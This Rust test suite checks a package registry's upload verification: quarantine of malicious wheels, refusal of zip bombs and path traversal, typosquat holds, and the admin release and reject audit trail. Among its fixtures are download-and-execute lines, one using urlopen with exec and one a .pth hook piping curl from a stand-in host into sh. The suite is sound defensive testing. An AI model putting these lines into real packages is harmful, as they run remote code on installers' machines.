//! Verification through the real router: what is held back, what is refused,
//! and the review workflow around it.

mod common;

use axum::http::StatusCode;
use common::{TestApp, UploadForm};
use serde_json::Value;
use wharf_core::model::{FileStatus, RecordVerdict};
use wharf_testkit::{hostile, malicious, SdistBuilder, WheelBuilder};

async fn admin_token(t: &TestApp) -> String {
    t.app.accounts.create_user("root", true).await.unwrap();
    t.token("root", "admin", &[]).await
}

fn form_for(f: &malicious::Fixture) -> UploadForm {
    UploadForm::new("demo-pkg", "1.0", &f.filename, f.bytes.clone())
}

fn report_path(filename: &str) -> String {
    format!("/api/v1/projects/demo-pkg/releases/1.0/files/{filename}/report")
}

fn bearer(token: &str) -> String {
    format!("Bearer {token}")
}

fn finding<'a>(report: &'a Value, rule: &str) -> Option<&'a Value> {
    report["report"]["findings"]
        .as_array()?
        .iter()
        .find(|f| f["rule"] == rule)
}

#[tokio::test]
async fn each_malicious_upload_is_quarantined_with_its_rule_and_hidden_from_the_index() {
    for fixture in malicious::all() {
        let t = TestApp::new().await;
        let alice = t.token("alice", "publish", &[]).await;
        let r = t.upload(Some(&alice), &form_for(&fixture)).await;
        assert_eq!(r.status, StatusCode::OK, "{}: {}", fixture.label, r.text());
        let body = r.json();
        assert_eq!(body["status"], "quarantined", "{}", fixture.label);
        assert!(body["message"]
            .as_str()
            .unwrap()
            .contains("held for review"));

        // Hidden from the index, the project API and downloads.
        assert_eq!(
            t.get("/simple/demo-pkg/", &[]).await.status,
            StatusCode::NOT_FOUND
        );
        assert_eq!(
            t.get("/api/v1/projects/demo-pkg", &[]).await.status,
            StatusCode::NOT_FOUND
        );
        let url = body["url"].as_str().unwrap();
        assert_eq!(
            t.get(url, &[]).await.status,
            StatusCode::NOT_FOUND,
            "{}",
            fixture.label
        );

        // The owner reads why, with the rule, severity, member and line.
        let report = t
            .get(
                &report_path(&fixture.filename),
                &[("authorization", &bearer(&alice))],
            )
            .await;
        assert_eq!(report.status, StatusCode::OK, "{}", report.text());
        let report = report.json();
        assert_eq!(report["status"], "quarantined");
        assert_eq!(report["report"]["verdict"], "quarantine");
        let found = finding(&report, fixture.rule)
            .unwrap_or_else(|| panic!("{}: no {} in {report}", fixture.label, fixture.rule));
        assert_eq!(found["severity"], fixture.severity, "{}", fixture.label);
        assert_eq!(found["file"], fixture.member, "{}", fixture.label);
        assert!(!found["explanation"].as_str().unwrap().is_empty());
    }
}

#[tokio::test]
async fn structural_attacks_are_refused_at_upload_naming_the_rule_and_file() {
    let t = TestApp::new().await;
    let alice = t.token("alice", "publish", &[]).await;
    let wheel = hostile::base_wheel().filename();
    let sdist = hostile::base_sdist().filename();
    let cases: Vec<(&str, String, Vec<u8>, &str, &str)> = vec![
        (
            "zip bomb",
            wheel.clone(),
            hostile::zip_bomb_wheel(64),
            "archive.zip-bomb",
            "zeros",
        ),
        (
            "../ path",
            wheel.clone(),
            hostile::wheel_with_path_traversal(),
            "archive.path-traversal",
            "../evil.py",
        ),
        (
            "absolute path",
            wheel.clone(),
            hostile::wheel_with_absolute_path(),
            "archive.path-traversal",
            "/",
        ),
        (
            "duplicate entries",
            wheel.clone(),
            hostile::wheel_with_duplicate_entry(),
            "archive.duplicate-entry",
            "duplicates",
        ),
        (
            "directory disagrees",
            wheel.clone(),
            hostile::wheel_with_local_header_mismatch(),
            "archive.inconsistent-headers",
            "demo_pkg",
        ),
        (
            "RECORD mismatch",
            wheel.clone(),
            hostile::wheel_with_record_mismatch(),
            "wheel.record-mismatch",
            "RECORD",
        ),
        (
            "symlink",
            sdist.clone(),
            hostile::sdist_with_symlink(),
            "archive.link",
            "demo_pkg-1.0/link",
        ),
        (
            "hardlink",
            sdist.clone(),
            hostile::sdist_with_hardlink(),
            "archive.link",
            "demo_pkg-1.0/hard",
        ),
    ];
    for (label, filename, bytes, rule, fragment) in cases {
        let r = t
            .upload(
                Some(&alice),
                &UploadForm::new("demo-pkg", "1.0", &filename, bytes),
            )
            .await;
        r.assert_error(StatusCode::BAD_REQUEST, rule, fragment);
        let message = r.json()["message"].as_str().unwrap().to_owned();
        assert!(
            message.contains(&format!("rule {rule} (block)")),
            "{label}: {message}"
        );
        assert!(message.contains(&filename), "{label}: {message}");
    }
    // The filename's version disagrees with METADATA inside.
    let lying = WheelBuilder::new("demo-pkg", "1.0").metadata_version("2.0");
    let r = t
        .upload(Some(&alice), &UploadForm::wheel(&lying, "demo-pkg", "1.0"))
        .await;
    r.assert_error(StatusCode::BAD_REQUEST, "metadata.mismatch", "2.0");
    let lying = SdistBuilder::new("demo-pkg", "1.0").metadata_name("other-pkg");
    let r = t
        .upload(
            Some(&alice),
            &UploadForm::new("demo-pkg", "1.0", &lying.filename(), lying.build()),
        )
        .await;
    r.assert_error(StatusCode::BAD_REQUEST, "metadata.mismatch", "other-pkg");
    assert!(
        t.app
            .ports
            .projects
            .list_projects()
            .await
            .unwrap()
            .is_empty(),
        "nothing was stored"
    );
}

#[tokio::test]
async fn a_typosquatted_name_is_held_and_an_exact_popular_name_is_not() {
    let t = TestApp::new().await;
    let alice = t.token("alice", "publish", &[]).await;
    let squat = WheelBuilder::new("reqeusts", "1.0");
    let r = t
        .upload(Some(&alice), &UploadForm::wheel(&squat, "reqeusts", "1.0"))
        .await;
    assert_eq!(r.json()["status"], "quarantined", "{}", r.text());
    let path = format!(
        "/api/v1/projects/reqeusts/releases/1.0/files/{}/report",
        squat.filename()
    );
    let report = t
        .get(&path, &[("authorization", &bearer(&alice))])
        .await
        .json();
    let found = finding(&report, "name.typosquat").expect("typosquat finding");
    assert!(
        found["evidence"].as_str().unwrap().contains("'requests'"),
        "{found}"
    );
    assert!(
        found.get("file").is_none(),
        "a name finding names no member"
    );

    let real = WheelBuilder::new("requests", "1.0");
    let r = t
        .upload(Some(&alice), &UploadForm::wheel(&real, "requests", "1.0"))
        .await;
    assert_eq!(r.json()["status"], "published", "{}", r.text());
}

#[tokio::test]
async fn reviewers_release_or_reject_with_a_reason_and_every_decision_is_audited() {
    let t = TestApp::new().await;
    let alice = t.token("alice", "publish", &[]).await;
    let root = admin_token(&t).await;
    let fixture = malicious::credential_exfil();
    t.upload(Some(&alice), &form_for(&fixture)).await;

    // Non-administrators cannot see or decide, and the attempt is audited.
    let r = t
        .get(
            "/api/v1/admin/quarantine",
            &[("authorization", &bearer(&alice))],
        )
        .await;
    r.assert_error(StatusCode::FORBIDDEN, "admin_required", "administrator");
    let queue = t
        .get(
            "/api/v1/admin/quarantine",
            &[("authorization", &bearer(&root))],
        )
        .await;
    assert_eq!(queue.status, StatusCode::OK, "{}", queue.text());
    let files = queue.json()["files"].as_array().unwrap().clone();
    assert_eq!(files.len(), 1);
    let id = files[0]["id"].as_i64().unwrap();
    assert_eq!(files[0]["filename"], fixture.filename.as_str());
    assert!(finding(&files[0], fixture.rule).is_some());

    let release = format!("/api/v1/admin/files/{id}/release");
    t.post_json(&release, Some(&alice), r#"{"reason":"mine"}"#)
        .await
        .assert_error(StatusCode::FORBIDDEN, "admin_required", "administrator");
    t.post_json(&release, Some(&root), r#"{"reason":"   "}"#)
        .await
        .assert_error(
            StatusCode::BAD_REQUEST,
            "reason_required",
            "reason is required",
        );
    t.post_json(&release, Some(&root), "{}").await.assert_error(
        StatusCode::BAD_REQUEST,
        "invalid_body",
        "reason",
    );
    t.post_json(
        "/api/v1/admin/files/99999/release",
        Some(&root),
        r#"{"reason":"x"}"#,
    )
    .await
    .assert_error(StatusCode::NOT_FOUND, "not_found", "99999");
    t.post_json(
        "/api/v1/admin/files/abc/release",
        Some(&root),
        r#"{"reason":"x"}"#,
    )
    .await
    .assert_error(StatusCode::BAD_REQUEST, "invalid_id", "number");
    t.get(
        "/api/v1/admin/quarantine?status=weird",
        &[("authorization", &bearer(&root))],
    )
    .await
    .assert_error(StatusCode::BAD_REQUEST, "invalid_query", "weird");

    let r = t
        .post_json(
            &release,
            Some(&root),
            r#"{"reason":"telemetry endpoint is ours"}"#,
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(r.json()["status"], "published");
    assert_eq!(
        r.json()["report"]["review"]["reason"],
        "telemetry endpoint is ours"
    );
    assert_eq!(r.json()["report"]["review"]["reviewer"], "root");
    assert_eq!(t.get("/simple/demo-pkg/", &[]).await.status, StatusCode::OK);

    // Taking it down again: reject works from published; release then conflicts.
    let reject = format!("/api/v1/admin/files/{id}/reject");
    let r = t
        .post_json(&reject, Some(&root), r#"{"reason":"changed our mind"}"#)
        .await;
    assert_eq!(r.json()["status"], "rejected", "{}", r.text());
    assert_eq!(
        t.get("/simple/demo-pkg/", &[]).await.status,
        StatusCode::NOT_FOUND
    );
    t.post_json(&release, Some(&root), r#"{"reason":"again"}"#)
        .await
        .assert_error(StatusCode::CONFLICT, "status_conflict", "rejected");

    let audit = t
        .get(
            "/api/v1/admin/audit?limit=50",
            &[("authorization", &bearer(&root))],
        )
        .await
        .json();
    let actions: Vec<(String, Value)> = audit["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["action"].as_str().unwrap().to_owned(),
                e["detail"].clone(),
            )
        })
        .collect();
    let released = actions
        .iter()
        .find(|(a, _)| a == "file.released")
        .expect("release audited");
    assert_eq!(released.1["reason"], "telemetry endpoint is ours");
    assert_eq!(released.1["from"], "quarantined");
    assert!(actions
        .iter()
        .any(|(a, d)| a == "file.rejected" && d["reason"] == "changed our mind"));
    assert!(actions
        .iter()
        .any(|(a, d)| a == "file.quarantined" && d["rules"][0] == fixture.rule));
    assert!(actions.iter().filter(|(a, _)| a == "admin.denied").count() >= 2);
}

#[tokio::test]
async fn reports_are_for_owners_and_administrators_only() {
    let t = TestApp::new().await;
    let alice = t.token("alice", "publish", &[]).await;
    let mallory = t.token("mallory", "publish", &[]).await;
    let root = admin_token(&t).await;
    let fixture = malicious::pth_import();
    t.upload(Some(&alice), &form_for(&fixture)).await;
    let path = report_path(&fixture.filename);
    t.get(&path, &[("authorization", &bearer(&mallory))])
        .await
        .assert_error(
            StatusCode::NOT_FOUND,
            "not_found",
            "whose report you may read",
        );
    assert_eq!(t.get(&path, &[]).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        t.get(&path, &[("authorization", &bearer(&root))])
            .await
            .status,
        StatusCode::OK
    );
    // The right file under the wrong release is no report at all.
    let wrong = format!(
        "/api/v1/projects/demo-pkg/releases/2.0/files/{}/report",
        fixture.filename
    );
    assert_eq!(
        t.get(&wrong, &[("authorization", &bearer(&alice))])
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    let bad = "/api/v1/projects/demo-pkg/releases/not%20a%20version/files/x.whl/report";
    assert_eq!(
        t.get(bad, &[("authorization", &bearer(&alice))])
            .await
            .status,
        StatusCode::BAD_REQUEST
    );
}

async fn status_of(t: &TestApp, filename: &str) -> FileStatus {
    t.app
        .ports
        .files
        .find_file(filename)
        .await
        .unwrap()
        .unwrap()
        .status
}

#[tokio::test]
async fn without_workers_uploads_stay_pending_and_hidden_until_a_worker_runs() {
    let t = TestApp::with_config(|c| {
        c.verification.workers = 0;
        c.verification.upload_wait = std::time::Duration::ZERO;
        c.verification.poll_interval = std::time::Duration::from_millis(20);
    })
    .await;
    let alice = t.token("alice", "publish", &[]).await;
    let wheel = WheelBuilder::new("acme-billing", "1.0");
    let r = t
        .upload(
            Some(&alice),
            &UploadForm::wheel(&wheel, "acme-billing", "1.0"),
        )
        .await;
    assert_eq!(r.json()["status"], "pending", "{}", r.text());
    assert!(r.json()["message"]
        .as_str()
        .unwrap()
        .contains("still running"));
    assert_eq!(
        t.get("/simple/acme-billing/", &[]).await.status,
        StatusCode::NOT_FOUND
    );

    // A second process sharing the database and blobs, with workers, verifies it.
    let mut config = t.app.config.clone();
    config.verification.workers = 1;
    let worker = wharf_server::state::App::from_parts(
        config,
        t.app.db.clone(),
        t.app.ports.clone(),
        t.app.limiter.clone(),
    )
    .unwrap();
    let handles = worker.verification.spawn_workers();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while status_of(&t, &wheel.filename()).await == FileStatus::Pending {
        assert!(
            std::time::Instant::now() < deadline,
            "the worker never verified the file"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    handles.iter().for_each(tokio::task::JoinHandle::abort);
    assert_eq!(
        status_of(&t, &wheel.filename()).await,
        FileStatus::Published
    );
    t.app.pages.invalidate("acme-billing");
    assert_eq!(
        t.get("/simple/acme-billing/", &[]).await.status,
        StatusCode::OK
    );
}

#[tokio::test]
async fn show_pending_lists_files_before_their_verdict() {
    let t = TestApp::with_config(|c| {
        c.verification.workers = 0;
        c.verification.upload_wait = std::time::Duration::ZERO;
        c.verification.show_pending = true;
    })
    .await;
    let alice = t.token("alice", "publish", &[]).await;
    let wheel = WheelBuilder::new("acme-billing", "1.0");
    let r = t
        .upload(
            Some(&alice),
            &UploadForm::wheel(&wheel, "acme-billing", "1.0"),
        )
        .await;
    assert_eq!(r.json()["status"], "pending");
    let page = t.get("/simple/acme-billing/", &[]).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text().contains(&wheel.filename()));
    assert_eq!(
        t.get(r.json()["url"].as_str().unwrap(), &[]).await.status,
        StatusCode::OK
    );
}

#[tokio::test]
async fn a_rescan_quarantines_files_that_newly_fail_and_keeps_released_ones() {
    let t = TestApp::new().await;
    let alice = t.token("alice", "publish", &[]).await;
    let root = admin_token(&t).await;
    // One file published under "older rules": stored as passed with no findings.
    let old = malicious::download_exec();
    t.upload(Some(&alice), &form_for(&old)).await;
    let file = t
        .app
        .ports
        .files
        .find_file(&old.filename)
        .await
        .unwrap()
        .unwrap();
    t.app
        .ports
        .verification
        .record_verdict(RecordVerdict {
            file_id: file.id,
            verdict: "pass".into(),
            rules_version: "older".into(),
            findings: "[]".into(),
            scanned_at: wharf_core::Timestamp::now(),
            from: vec![FileStatus::Quarantined],
            to: FileStatus::Published,
            job: None,
            audit: None,
        })
        .await
        .unwrap();
    // Another, quarantined and then released by a reviewer for what it found.
    let form = UploadForm::new(
        "other-pkg",
        "1.0",
        "other_pkg-1.0-py3-none-any.whl",
        WheelBuilder::new("other-pkg", "1.0")
            .file("other-init.pth", "import os; os.system('true')\n")
            .build(),
    );
    let r = t.upload(Some(&alice), &form).await;
    assert_eq!(r.json()["status"], "quarantined", "{}", r.text());
    let other = t
        .app
        .ports
        .files
        .find_file("other_pkg-1.0-py3-none-any.whl")
        .await
        .unwrap()
        .unwrap();
    let r = t
        .post_json(
            &format!("/api/v1/admin/files/{}/release", other.id),
            Some(&root),
            r#"{"reason":"known .pth"}"#,
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());

    let admin = t
        .app
        .ports
        .users
        .find_user_by_name("root")
        .await
        .unwrap()
        .unwrap();
    let summary = t.app.verification.rescan(None, Some(&admin)).await.unwrap();
    assert_eq!(summary.scanned, 2);
    assert_eq!(
        summary.newly_quarantined,
        std::slice::from_ref(&old.filename)
    );
    assert_eq!(status_of(&t, &old.filename).await, FileStatus::Quarantined);
    assert_eq!(
        status_of(&t, "other_pkg-1.0-py3-none-any.whl").await,
        FileStatus::Published
    );
    let audit = t
        .get(
            "/api/v1/admin/audit?action=file.quarantined&limit=10",
            &[("authorization", &bearer(&root))],
        )
        .await
        .json();
    let reasons: Vec<&str> = audit["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["detail"]["reason"].as_str())
        .collect();
    assert_eq!(reasons.len(), 1, "{audit}");
    assert!(
        reasons[0].contains("rescan") && reasons[0].contains("code.download-exec"),
        "{}",
        reasons[0]
    );
}

#[tokio::test]
async fn popular_benign_wheels_publish_with_no_holding_finding() {
    let dir = std::env::var("WHARF_TEST_BENIGN_WHEELS")
        .expect("run ./scripts/test: it downloads the benign wheel set (scripts/benign-wheels)");
    let mut wheels: Vec<std::path::PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "whl"))
        .collect();
    wheels.sort();
    assert!(wheels.len() >= 10, "the set has {} wheels", wheels.len());
    let t = TestApp::with_config(|c| c.max_upload_bytes = 200 << 20).await;
    let alice = t.token("alice", "publish", &[]).await;
    let root = admin_token(&t).await;
    for path in wheels {
        let filename = path.file_name().unwrap().to_str().unwrap().to_owned();
        let mut parts = filename.split('-');
        let (name, version) = (parts.next().unwrap(), parts.next().unwrap());
        let form = UploadForm::new(name, version, &filename, std::fs::read(&path).unwrap());
        let r = t.upload(Some(&alice), &form).await;
        assert_eq!(r.status, StatusCode::OK, "{filename}: {}", r.text());
        let project = wharf_core::name::normalize(name);
        let report_url =
            format!("/api/v1/projects/{project}/releases/{version}/files/{filename}/report");
        let report = t
            .get(&report_url, &[("authorization", &bearer(&root))])
            .await
            .json();
        let holding: Vec<&str> = report["report"]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["severity"] != "warn")
            .map(|f| f["rule"].as_str().unwrap())
            .collect();
        // setuptools' `.pth` only imports; pip's vendored distlib reads `~/.pypirc`
        // in a function nobody calls at import. Neither is held any more.
        assert_eq!(r.json()["status"], "published", "{filename}: {report}");
        assert!(holding.is_empty(), "{filename}: {holding:?}");
    }
}

/// Per-project memory: what a reviewer released on one release, with the same
/// code, does not hold the next; a changed line or a new finding does.
#[tokio::test]
async fn findings_released_on_the_previous_release_do_not_hold_the_next_one() {
    let t = TestApp::new().await;
    let alice = t.token("alice", "publish", &[]).await;
    let root = admin_token(&t).await;
    let hook = "import os; os.system('true')\n";
    let upload = |version: &'static str, pth: &'static str, extra: Option<&'static str>| {
        let mut wheel = WheelBuilder::new("acme-hooks", version).file("acme-hooks.pth", pth);
        if let Some(code) = extra {
            wheel = wheel.file("acme_hooks/fetch.py", code);
        }
        let filename = format!("acme_hooks-{version}-py3-none-any.whl");
        UploadForm::new("acme-hooks", version, &filename, wheel.build())
    };
    let report_of = |version: &str| {
        format!(
            "/api/v1/projects/acme-hooks/releases/{version}/files/acme_hooks-{version}-py3-none-any.whl/report"
        )
    };
    let history = |report: &Value, rule: &str| -> Value {
        finding(report, rule).map_or(Value::Null, |f| f["history"].clone())
    };

    let r = t.upload(Some(&alice), &upload("1.0", hook, None)).await;
    assert_eq!(r.json()["status"], "quarantined", "{}", r.text());
    let file = t
        .app
        .ports
        .files
        .find_file("acme_hooks-1.0-py3-none-any.whl")
        .await
        .unwrap()
        .unwrap();
    let released = t
        .post_json(
            &format!("/api/v1/admin/files/{}/release", file.id),
            Some(&root),
            r#"{"reason":"our start-up hook"}"#,
        )
        .await;
    assert_eq!(released.status, StatusCode::OK, "{}", released.text());

    // The same hook in 1.1 is released before, and 1.1 publishes.
    let r = t.upload(Some(&alice), &upload("1.1", hook, None)).await;
    assert_eq!(r.json()["status"], "published", "{}", r.text());
    let auth = [("authorization", bearer(&root))];
    let auth: Vec<(&str, &str)> = auth.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let report = t.get(&report_of("1.1"), &auth).await.json();
    assert_eq!(
        history(&report, "install.pth-import"),
        serde_json::json!({"kind": "released-before", "version": "1.0"}),
        "{report}"
    );
    let print = &finding(&report, "install.pth-import").unwrap()["fingerprint"];
    assert_eq!(print.as_str().map(str::len), Some(64), "{report}");

    // 1.2 keeps the hook (carried over from 1.1) but adds a download-and-exec:
    // that is new since 1.1 and holds the release.
    let fetch =
        "import urllib.request\nexec(urllib.request.urlopen('https://h.invalid/x').read())\n";
    let r = t
        .upload(Some(&alice), &upload("1.2", hook, Some(fetch)))
        .await;
    assert_eq!(r.json()["status"], "quarantined", "{}", r.text());
    let report = t.get(&report_of("1.2"), &auth).await.json();
    assert_eq!(
        history(&report, "install.pth-import")["kind"],
        "released-before",
        "{report}"
    );
    assert_eq!(
        history(&report, "code.download-exec"),
        serde_json::json!({"kind": "new-since", "version": "1.1"}),
        "{report}"
    );

    // A changed hook line is new code: it holds again.
    let r = t
        .upload(
            Some(&alice),
            &upload(
                "1.3",
                "import os; os.system('curl -s h.invalid | sh')\n",
                None,
            ),
        )
        .await;
    assert_eq!(r.json()["status"], "quarantined", "{}", r.text());
}
